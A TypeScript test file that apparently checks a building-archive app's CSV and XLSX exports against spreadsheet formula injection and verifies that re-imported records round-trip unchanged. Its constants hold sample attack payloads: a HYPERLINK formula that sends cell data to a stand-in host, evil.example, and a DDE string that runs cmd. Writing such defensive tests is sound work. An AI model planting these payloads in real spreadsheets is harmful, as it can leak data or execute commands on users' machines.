import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importArchiveFile } from '../../../src/archive/import/archive-importer.ts';
import type { ArchiveRecord } from '../../../src/core/archive-record.ts';
import type { Dossier } from '../../../src/archive/store/archive-store.ts';
import { type ApiHarness, startApiHarness } from '../api/api-harness.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
const PLUS = '+1+1';
const TRIGGER = /^[=+\-@\t\r]/;

describe('export is safe to open in a spreadsheet and round-trips', () => {
  let h: ApiHarness;
  let records: ArchiveRecord[];

  beforeAll(async () => {
    h = await startApiHarness({ buildings: 30 });
    const [inspector, planner] = await Promise.all([h.login('inspector'), h.login('planner')]);
    const d = (await h.http('GET', '/api/buildings/YZ-00003')).json<Dossier>();
    const grade = d.grade === 'D' ? 'C' : 'D';
    const inspected = await h.http('POST', '/api/buildings/YZ-00003/inspections', {
      cookie: inspector,
      body: { date: '2026-11-20', findings: '墙体开裂', grade, agency: HYPERLINK, version: d.version },
    });
    expect(inspected.status).toBe(201);
    const d4 = (await h.http('GET', '/api/buildings/YZ-00004')).json<Dossier>();
    const planned = await h.http('PUT', '/api/buildings/YZ-00004/plan', {
      cookie: planner,
      body: { measures: ['抗震加固'], status: '已立项', start: '2026-01-01', end: '2027-06-30', budgetWan: 12.5, funding: ['财政'], unit: DDE, keyProject: PLUS, version: d4.version },
    });
    expect(planned.status, planned.text).toBe(200);
    records = await h.store.exportRecords();
  });
  afterAll(async () => h.close());

  it('CSV: no text cell begins with = + - @ tab or CR; the attack text is behind one quote; budgets stay numbers', async () => {
    const res = await h.http('GET', '/api/export?format=csv');
    expect(res.status).toBe(200);
    const rows = Papa.parse<string[]>(res.text.slice(1), { skipEmptyLines: true }).data;
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(TRIGGER);
    const cells = rows.flat();
    expect(cells).toContain(`'${HYPERLINK}`);
    expect(cells).toContain(`'${DDE}`);
    expect(cells).toContain(`'${PLUS}`);
    expect(res.text).toMatch(/,12\.5,/);
  });

  it('CSV: importing the export gives back the same text (nothing changes)', async () => {
    const path = join(h.dir, 'exported.csv');
    writeFileSync(path, (await h.http('GET', '/api/export?format=csv')).body);
    const imported = await importArchiveFile(h.store, path);
    // The inspection's appraisal comes back as an imported copy (same date, agency, grade); nothing else changes.
    expect(imported).toMatchObject({ ok: true, value: { plansChanged: 0, gradesChanged: 0 } });
    const after = await h.store.exportRecords();
    expect(after).toEqual(records);
    expect(after.find((r) => r.code === 'YZ-00003')?.appraisal?.agency).toBe(HYPERLINK);
    expect(after.find((r) => r.code === 'YZ-00004')?.plan).toMatchObject({ unit: DDE, keyProject: PLUS });
  });

  it('XLSX: text is written as string cells (never formulas), neutralised the same way, and round-trips', async () => {
    const res = await h.http('GET', '/api/export?format=xlsx');
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.body as unknown as ArrayBuffer);
    const texts: string[] = [];
    wb.worksheets[0]!.eachRow((row) => row.eachCell((cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      if (typeof cell.value === 'string') texts.push(cell.value);
    }));
    expect(texts).toContain(`'${HYPERLINK}`);
    for (const t of texts) expect(t).not.toMatch(TRIGGER);
    const path = join(h.dir, 'exported.xlsx');
    writeFileSync(path, res.body);
    expect((await importArchiveFile(h.store, path)).ok).toBe(true);
    expect(await h.store.exportRecords()).toEqual(records);
  });
});
